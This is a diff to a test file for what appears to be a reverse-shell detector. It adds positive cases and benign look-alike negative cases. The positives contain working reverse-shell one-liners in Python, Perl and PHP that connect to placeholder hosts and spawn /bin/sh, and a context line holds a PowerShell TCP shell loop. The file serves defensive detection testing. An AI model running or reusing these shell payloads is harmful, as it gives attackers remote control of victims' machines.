@@ -83,6 +83,24 @@ const positives: VerdictCase[] = [
     text: "$tc = New-Object System.Net.Sockets.TCPClient('203.0.113.40', 8080)\n$st = $tc.GetStream()\n$buf = New-Object byte[] 4096\nwhile (($k = $st.Read($buf, 0, $buf.Length)) -gt 0) {\n  $cmd = [Text.Encoding]::UTF8.GetString($buf, 0, $k)\n  $res = Invoke-Expression $cmd 2>&1 | Out-String\n  $o = [Text.Encoding]::UTF8.GetBytes($res)\n  $st.Write($o, 0, $o.Length)\n}\n",
     expect: [['SC2', 6, 0.85]],
   },
+  {
+    name: 'python one-liner run from a shell script',
+    path: 'scripts/boot.sh',
+    text: '#!/bin/bash\npython3 -c \'import socket,os,pty;k=socket.socket();k.connect(("203.0.113.88",993));[os.dup2(k.fileno(),i) for i in (0,1,2)];pty.spawn("sh")\'\n',
+    expect: [['SC2', 2, 0.85]],
+  },
+  {
+    name: 'perl socket one-liner',
+    path: 'scripts/p.sh',
+    text: '#!/bin/sh\nperl -MSocket -e \'$i="198.51.100.9";socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in(1234,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");exec("/bin/sh -i");};\'\n',
+    expect: [['SC2', 2, 0.85]],
+  },
+  {
+    name: 'php fsockopen one-liner',
+    path: 'scripts/q.sh',
+    text: '#!/bin/sh\nphp -r \'$sock=fsockopen("relay.example.org",4242);exec("/bin/sh -i <&3 >&3 2>&3");\'\n',
+    expect: [['SC2', 2, 0.85]],
+  },
 ];
 
 const negatives: VerdictCase[] = [
@@ -133,6 +151,21 @@ const negatives: VerdictCase[] = [
 describe('reverse shells (SC2 + E1)', () => {
   it.each(positives)('$name', (c) => checkVerdict(c));
 });
+
+negatives.push(
+  {
+    name: 'perl and php one-liners without a shell',
+    path: 'scripts/text.sh',
+    text: "#!/bin/sh\nperl -pe 's/foo/bar/' in.txt\nphp -r 'echo json_encode([\"ok\" => true]);'\n",
+    quiet: ['SC2', 'E1'],
+  },
+  {
+    name: 'python one-liner opening a socket to check a port',
+    path: 'scripts/port.sh',
+    text: '#!/bin/bash\npython3 -c \'import socket,sys;s=socket.socket();sys.exit(s.connect_ex(("127.0.0.1",8080)))\'\n',
+    quiet: ['SC2', 'E1'],
+  },
+);
 
 describe('reverse-shell look-alikes stay quiet', () => {
   it.each(negatives)('$name', (c) => checkVerdict(c));
